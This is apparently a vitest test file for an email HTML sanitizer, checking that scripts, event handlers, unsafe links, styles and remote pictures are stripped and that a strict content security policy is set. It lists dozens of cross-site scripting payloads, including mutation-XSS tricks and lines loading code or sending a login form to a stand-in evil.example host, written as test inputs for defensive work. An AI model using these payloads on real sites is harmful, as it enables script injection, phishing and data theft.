import fc from 'fast-check'
import { Parser } from 'htmlparser2'
import { describe, expect, test } from 'vitest'
import { mailPage, mailPageHeaders, showMail } from '../../../worker/modules/mail-in/mail-page.ts'
import { safeLink } from '../../../worker/modules/mail-in/safe-html.ts'
import { safeStyle } from '../../../worker/modules/mail-in/safe-style.ts'

const blocked = { remote: 'blocked', inline: () => null } as const
const clean = (html: string, pictures: Parameters<typeof showMail>[1] = blocked): string => {
  const { fresh, quoted } = showMail(html, pictures)
  return fresh + (quoted ?? '')
}

/** What a mail may hold once it is clean, written down apart from the code that cleans it. */
const allowedElements = new Set(
  'a abbr address b bdi bdo big blockquote br caption center cite code col colgroup dd del details dfn div dl dt em figcaption figure font h1 h2 h3 h4 h5 h6 hr i img ins kbd li mark ol p pre q s samp small span strike strong sub summary sup table tbody td tfoot th thead time tr tt u ul var wbr'.split(
    ' ',
  ),
)
const allowedAttributes = new Set(
  'href target rel src alt title dir lang align valign bgcolor width height border cellpadding cellspacing colspan rowspan span color size face start type style'.split(
    ' ',
  ),
)

/** Everything in a text that a browser would take for more than words and looks. */
function dangersIn(html: string): string[] {
  const found: string[] = []
  const parser = new Parser({
    onopentag(name, attributes) {
      if (!allowedElements.has(name)) found.push(`<${name}>`)
      for (const [key, value] of Object.entries(attributes)) {
        const address = value.replace(/[\s\p{Cc}]/gu, '').toLowerCase()
        if (!allowedAttributes.has(key)) found.push(`${name}[${key}]`)
        if (key === 'href' && !/^(?:https?:\/\/|mailto:|tel:)/.test(address)) found.push(`href ${value}`)
        if (
          key === 'src' &&
          !/^(?:data:image\/(?:png|jpe?g|gif|webp);|https:\/\/|\/inline\/)/.test(address)
        ) {
          found.push(`src ${value}`)
        }
        if (
          key === 'style' &&
          /url|expression|javascript|@import|position|\\|binding|behavior/i.test(value)
        ) {
          found.push(`style ${value}`)
        }
      }
    },
    oncomment: () => found.push('comment'),
    onprocessinginstruction: () => found.push('instruction'),
  })
  parser.end(html)
  return found
}

const attacks: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" onerror="alert(1)" onload=alert(1)>',
  '<img/src/onerror=alert(1)>',
  '<img src=javascript:alert(1)>',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java&#x09;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="\u200bjavascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="https://bank.example@evil.example/">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="https://ok.example" onclick="alert(1)" style="position:fixed;inset:0">x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x.swf"></object><embed src="x.swf"><applet code=x></applet>',
  '<form action="https://evil.example"><input name=password><button>Login</button></form>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import url(https://evil.example/x.css); body{background:url(https://evil.example/t)}</style>',
  '<div style="background:url(https://evil.example/t)">x</div>',
  '<div style="background-image:url(\'https://evil.example/t\')">x</div>',
  '<div style="width: expression(alert(1))">x</div>',
  '<div style="width:/**/expression(alert(1))">x</div>',
  '<div style="background:\\75rl(https://evil.example)">x</div>',
  '<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9">x</div>',
  '<div style="margin-left:-9999px;text-indent:-999em">x</div>',
  '<div style="-moz-binding:url(x.xml#a);behavior:url(x.htc)">x</div>',
  '<table background="https://evil.example/t"><tr><td background="https://evil.example/t">x</td></tr></table>',
  '<video src=x onerror=alert(1)><source src=x></video><audio src=x autoplay></audio>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
  '<title><img title="</title><img src=x onerror=alert(1)>">',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<body onload=alert(1) background="https://evil.example/t">x</body>',
  '<!--[if mso]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><?php echo 1 ?>',
  '<!doctype html [<!ENTITY x "y">]>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '<p id="__proto__" class="constructor" name="x" constructor="y" __proto__="z">x</p>',
  '<img src="cid:../../x" alt="&quot;><script>alert(1)</script>">',
  '<p title="&lt;script&gt;">&lt;script&gt;alert(1)&lt;/script&gt;</p>',
  `${'<div>'.repeat(5000)}<script>alert(1)</script>`,
  `${'<b>'.repeat(200)}<img src=x onerror=alert(1)>`,
]

describe('the HTML of a mail', () => {
  test.each(attacks.map((html) => [html.slice(0, 80), html]))(
    'loses what is more than words: %s',
    (_name, html) => {
      const safe = clean(html)
      expect(dangersIn(safe)).toEqual([])
      expect(
        dangersIn(clean(html, { remote: 'shown', inline: (id) => `/inline/${encodeURIComponent(id)}` })),
      ).toEqual([])
      expect(safe).not.toMatch(/<script|<[^>]+\son[a-z]+\s*=/i)
    },
  )

  const piece = fc.oneof(
    fc.constantFrom(
      ...attacks.slice(0, 40),
      '<p>',
      '</p>',
      '<blockquote type=cite>',
      '</blockquote>',
      '<div class="gmail_quote">',
      '</div>',
      '<!--',
      '-->',
      '<style>',
      '</style>',
      '<svg>',
      '<a href="',
      '"',
      "'",
      '>',
      '<',
      '&',
      '&lt;',
      '<br>',
      '\0',
      '\u2028',
      'On 3 Nov 2026, Anna <a@b.it> wrote:',
    ),
    fc.string({ maxLength: 20 }),
    fc.string({ unit: 'binary', maxLength: 10 }),
  )
  const soup = fc.array(piece, { maxLength: 30 }).map((pieces) => pieces.join(''))

  test('is safe whatever it is made of, and cleaning what is clean changes nothing', () => {
    fc.assert(
      fc.property(soup, (html) => {
        const safe = clean(html)
        expect(dangersIn(safe)).toEqual([])
        expect(clean(clean(safe))).toBe(clean(safe))
      }),
      { numRuns: 2000 },
    )
  })

  test('keeps words, links and looks', () => {
    const html =
      '<p style="color:#333; font-size: 12pt; margin: 0 0 1em">Ciao <b>Anna</b>, <a href="http://frantoio.example/a?b=1&amp;c=2">guarda</a></p><table width="100%" bgcolor="#fff"><tr><td align="center" colspan="2">x</td></tr></table>'
    expect(clean(html)).toBe(
      '<p style="color: #333; font-size: 12pt; margin: 0 0 1em">Ciao <b>Anna</b>, <a href="http://frantoio.example/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer nofollow">guarda</a></p><table width="100%" bgcolor="#fff"><tbody><tr><td align="center" colspan="2">x</td></tr></tbody></table>'.replaceAll(
        /<\/?tbody>/g,
        '',
      ),
    )
  })
})

describe('pictures of a mail', () => {
  const pictures =
    '<img src="cid:foto1@example.it" alt="foto"><img src="http://shop.example/a.png" width="300"><img src="https://track.example/p.gif" width="1" height="1">'

  test('from elsewhere stay out until somebody asks, counted; pixels never take a place', () => {
    const shown = showMail(pictures, { remote: 'blocked', inline: (id) => `/inline/${id}` })
    expect(shown).toEqual({
      fresh: '<img src="/inline/foto1@example.it" alt="foto"><img width="300">',
      quoted: null,
      blockedPictures: 2,
    })
  })

  test('come over https alone once somebody asked', () => {
    expect(clean(pictures, { remote: 'shown', inline: () => null })).toBe(
      '<img src="https://shop.example/a.png" width="300"><img src="https://track.example/p.gif" width="1" height="1">',
    )
  })

  test('within the mail are named by their id, as programs write it', () => {
    const asked: string[] = []
    const inline = (id: string) => {
      asked.push(id)
      return null
    }
    clean('<img src="CID:a%20b@c"><img src="cid:x@y"><img src="cid:%E0%A4%A">', { remote: 'blocked', inline })
    expect(asked).toEqual(['a b@c', 'x@y', '%E0%A4%A'])
  })
})

test.each<[string, string | null]>([
  ['https://frantoio.example', 'https://frantoio.example/'],
  ['HTTPS://Frantoio.example/È', 'https://frantoio.example/%C3%88'],
  ['mailto:a@b.it?subject=x', 'mailto:a@b.it?subject=x'],
  ['tel:+39 02 123', 'tel:+39 02 123'],
  ['https://', null],
  ['#top', null],
  ['/relative', null],
  ['ftp://x.example', null],
  [`https://x.example/${'a'.repeat(5000)}`, null],
])('the address %s is followed as %s', (raw, href) => {
  expect(safeLink(raw)).toBe(href)
})

test.each([
  ['color: red; position: absolute; font-weight: bold', 'color: red; font-weight: bold'],
  ['COLOR: RGB(1, 2, 3)', 'color: RGB(1, 2, 3)'],
  [
    'width: calc(100% - 2px); display: flex; display: inline-block',
    'width: calc(100% - 2px); display: inline-block',
  ],
  ['background: red url(x)', ''],
  ['font-family: "Segoe UI", sans-serif', 'font-family: "Segoe UI", sans-serif'],
  ['color', ''],
  ['height: 100vh; width: 50DVW; max-height: 3svmax; color: red', 'color: red'],
])('of the style %s stays %s', (style, kept) => {
  expect(safeStyle(style)).toBe(kept)
})

test('a mail is a page of its own whose quote opens without a script', () => {
  const page = mailPage(
    { fresh: '<p>Sì</p>', quoted: '<p>Olio?</p>', blockedPictures: 0 },
    { quote: 'Mostra <il resto>', language: 'it' },
  )
  expect(page).toContain('<p>Sì</p><details><summary>Mostra &lt;il resto&gt;</summary><p>Olio?</p></details>')
  const policy = mailPageHeaders(['https://bottega.pages.example'])['content-security-policy']
  expect(policy).toContain("default-src 'none'")
  expect(policy).toContain('img-src data: https://bottega.pages.example;')
  expect(policy).toContain("script-src 'none'")
  expect(policy).not.toMatch(/allow-scripts|allow-forms|allow-top|unsafe-eval/)
  expect(page).toContain('<body data-mail data-blocked="0">')
})
